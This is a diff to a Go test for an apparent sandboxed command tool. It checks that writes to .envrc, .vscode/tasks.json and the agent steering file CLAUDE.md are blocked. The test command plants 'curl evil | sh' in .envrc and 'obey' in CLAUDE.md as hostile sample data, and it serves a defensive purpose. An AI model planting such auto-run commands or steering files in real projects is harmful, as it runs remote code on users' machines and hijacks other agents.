@@ -528,16 +528,20 @@ func effectKeepsProtectedPathsOut(t *testing.T, config string, reads [][]string)
 	var r *mcp.CallToolResult
 	var err error
 	r, err = s.CallTool(t.Context(), &mcp.CallToolParams{Name: "run_command", Arguments: map[string]any{
-		"argv": []string{"sh", "-c", "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ok > ok.txt"}}})
+		"argv": []string{"sh", "-c", "echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'obey' > CLAUDE.md && echo ok > ok.txt"}}})
 	if err != nil {
 		t.Fatal(err)
 	}
 	e := effectPart(t, r)
 	kept, _ := e["kept_out"].([]any)
-	if !r.IsError || len(kept) < 2 {
+	if !r.IsError || len(kept) < 3 {
 		t.Fatalf("effect %v (error %v)", e, r.IsError)
 	}
-	for _, p := range []string{".envrc", ".vscode"} {
+	// A steering file's note says who reads it and the way that is open.
+	if out := clitest.Text(t, r); !strings.Contains(out, "CLAUDE.md is read by Claude Code") || !strings.Contains(out, "write_file") {
+		t.Errorf("the note does not name CLAUDE.md's kind:\n%s", out)
+	}
+	for _, p := range []string{".envrc", ".vscode", "CLAUDE.md"} {
 		if _, err := os.Lstat(filepath.Join(d.Workspace, p)); err == nil {
 			t.Errorf("%s landed in the workspace", p)
 		}
